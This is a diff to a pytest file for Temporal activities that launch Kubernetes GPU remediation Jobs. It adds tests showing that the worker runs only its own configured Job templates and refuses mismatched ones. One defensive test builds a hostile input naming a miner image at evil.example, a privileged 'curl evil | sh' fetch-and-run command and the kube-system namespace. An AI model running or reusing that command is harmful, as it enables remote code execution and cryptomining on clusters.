@@ -16,21 +16,32 @@ from temporalio.exceptions import CancelledError
 from temporalio.testing import ActivityEnvironment
 
 from activities import jobs as jobs_module
+from activities.job_templates import JobsConfig, JobTemplate
 from activities.jobs import JobActivities
 from tests.activities.conftest import Cluster, Heartbeats, ThreadedGpuSim, _cluster, wait_for
-from workflows.models import JobSettings, NodeJobInput
+from workflows.models import NodeJobInput
 
 Kind = Literal["validate", "gpu-reset", "reboot"]
 NS = "gpu-remediate-jobs"
 NODE = "gpu-node-04"  # runs no workload: all 8 GPUs free
 
 
+def _tool(kind: Kind) -> JobTemplate:
+    return JobTemplate(purpose=kind, image="registry.sim.local/tool", command=["true"],
+                       deadline=timedelta(minutes=5), privileged=kind != "validate")
+
+
+# The worker's own templates: what a Job runs is its configuration, never the input.
+JOBS = JobsConfig(namespace=NS, templates={"validation": _tool("validate"),
+                                           "gpu-reset": _tool("gpu-reset"),
+                                           "reboot": _tool("reboot")})
+
+
 def job(kind: Kind = "validate", *, node: str = NODE, name: str | None = None,
-        gpu_index: str | None = None, dry_run: bool = False, gpus: int = 8) -> NodeJobInput:
+        gpu_index: str | None = None, dry_run: bool = False, gpus: int = 8,
+        template: str = "") -> NodeJobInput:
     return NodeJobInput(
-        node=node, kind=kind, name=name or f"{kind}-{node}-1", namespace=NS,
-        job=JobSettings(image="registry.sim.local/tool", command=["true"],
-                        deadline=timedelta(minutes=5), privileged=kind != "validate"),
+        node=node, kind=kind, name=name or f"{kind}-{node}-1", template=template,
         gpus=gpus, gpu_index=gpu_index, dry_run=dry_run)
 
 
@@ -38,7 +49,7 @@ def job(kind: Kind = "validate", *, node: str = NODE, name: str | None = None,
 def acts(cluster_with_gpus: Cluster, monkeypatch: pytest.MonkeyPatch) -> JobActivities:
     monkeypatch.setattr(jobs_module, "POLL_SECONDS", 0.1)
     cluster_with_gpus.core.create_namespace({"metadata": {"name": NS}})
-    return JobActivities(cluster_with_gpus.api)
+    return JobActivities(cluster_with_gpus.api, JOBS)
 
 
 def test_validate_job_is_pinned_tolerates_all_and_takes_every_gpu(
@@ -211,10 +222,50 @@ def test_job_in_a_missing_namespace_is_a_clear_non_retryable_error(
         cluster_with_gpus: Cluster, acts: JobActivities, env: ActivityEnvironment) -> None:
     from temporalio.exceptions import ApplicationError
 
-    inp = job().model_copy(update={"namespace": "nowhere"})
+    acts = JobActivities(cluster_with_gpus.api, JOBS.model_copy(update={"namespace": "nowhere"}))
     with pytest.raises(ApplicationError) as err:
-        env.run(acts.run_node_job, inp)
+        env.run(acts.run_node_job, job())
     assert err.value.type == "NotFound" and "nowhere" in str(err.value)
+
+
+def test_input_that_carries_a_job_of_its_own_runs_the_workers_template(
+        cluster_with_gpus: Cluster, acts: JobActivities, env: ActivityEnvironment) -> None:
+    """A stray Temporal client (or a run started before templates) sends image, command,
+    privileges and namespace in the input: all ignored, the worker's template runs in the
+    worker's namespace."""
+    hostile = NodeJobInput.model_validate({
+        "node": NODE, "kind": "validate", "name": f"validate-{NODE}-1", "gpus": 8,
+        "namespace": "kube-system",
+        "job": {"image": "evil.example/miner", "command": ["sh", "-c", "curl evil | sh"],
+                "deadline": "PT1H", "privileged": True}})
+    _looks(acts, hostile)
+    created = cluster_with_gpus.batch.read_namespaced_job(hostile.name, NS)
+    container = created.spec.template.spec.containers[0]
+    assert (container.image, container.command) == ("registry.sim.local/tool", ["true"])
+    assert container.security_context is None and not created.spec.template.spec.host_pid
+    assert [w["namespace"] for w in cluster_with_gpus.writes("jobs")] == [NS]
+
+
+@pytest.mark.parametrize(("kind", "template", "why"), [
+    ("validate", "no-such", "no Job template 'no-such'"),
+    # Naming the (privileged, always succeeding) reboot template for validation would
+    # return a node to service untested.
+    ("validate", "reboot", "'reboot' is for reboot, not validate"),
+    ("reboot", "validation", "'validation' is for validate, not reboot"),
+])
+def test_a_template_the_worker_lacks_for_the_step_is_refused_and_creates_nothing(
+        cluster_with_gpus: Cluster, acts: JobActivities, env: ActivityEnvironment,
+        kind: Kind, template: str, why: str) -> None:
+    from temporalio.exceptions import ApplicationError
+
+    cluster_with_gpus.clear_writes()
+    for call in (acts.poll_node_job, acts.run_node_job):
+        for dry_run in (False, True):
+            with pytest.raises(ApplicationError) as err:
+                env.run(call, job(kind, template=template, dry_run=dry_run))
+            assert err.value.type == "JobTemplateRefused" and err.value.non_retryable
+            assert why in str(err.value)
+    assert cluster_with_gpus.writes() == []
 
 
 def test_a_job_for_a_node_with_a_253_character_name_is_accepted(
